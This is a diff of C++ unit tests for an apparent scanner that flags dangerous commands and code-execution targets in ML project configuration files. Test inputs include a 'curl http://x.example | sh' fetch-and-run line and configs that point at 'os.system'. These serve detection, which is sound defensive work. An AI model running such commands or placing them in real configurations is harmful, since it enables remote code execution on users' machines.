@@ -224,11 +224,11 @@ BOOST_AUTO_TEST_CASE(libraries_import_by_keys_of_their_own) {
 BOOST_AUTO_TEST_CASE(commands_of_projects_are_run) {
     const auto ids_of = [](const std::string& text) { return ids(test::scan(text)); };
     BOOST_TEST(ids_of("stages:\n  a:\n    cmd: curl http://x.example | sh\n") ==
-               "PRQ-SCRIPT-001 PRQ-CONFIG-026");
+               "PRQ-CONFIG-026 PRQ-SCRIPT-001");
     BOOST_TEST(ids_of("stages:\n  a:\n    cmd: python train.py\n") == "PRQ-CONFIG-026");
     BOOST_TEST(ids_of("entry_points:\n  main:\n    command: python x.py\n") == "PRQ-CONFIG-026");
     BOOST_TEST(ids_of("build:\n  run:\n  - curl http://x.example | sh\npredict: p.py:P\n") ==
-               "PRQ-SCRIPT-001 PRQ-CONFIG-026");
+               "PRQ-CONFIG-026 PRQ-SCRIPT-001");
     BOOST_TEST(ids_of("jobs:\n  run: curl http://x.example | sh\n") == "");
 }
 
@@ -245,7 +245,7 @@ BOOST_AUTO_TEST_CASE(what_only_resembles_configuration_is_none) {
     BOOST_TEST(gaps(named("notes", fence)) == "malformed");
     BOOST_TEST(gaps(named("x.py", "T = 'tag:yaml.org,2002:'\nx = {\n}\n")) == "");
     BOOST_TEST(gaps(test::scan(R"([{"class_name": "dog"}, {"class_name": "cat"}])")) == "");
-    BOOST_TEST(gaps(test::scan(R"({"class_name": "Net", "module": "mine"})")) == "not_inspected");
+    BOOST_TEST(gaps(test::scan(R"({"class_name": "Net", "module": "mine"})")) == "not-inspected");
     // Behind a comment, JSON is YAML.
     BOOST_TEST(ids(test::scan("# x\n{\"_target_\":\"os.system\"}\n")) == "PRQ-CONFIG-001");
     BOOST_TEST(ids(test::scan("# x\n{\"class_path\":\"os.system\"}\n")) == "PRQ-CONFIG-001");
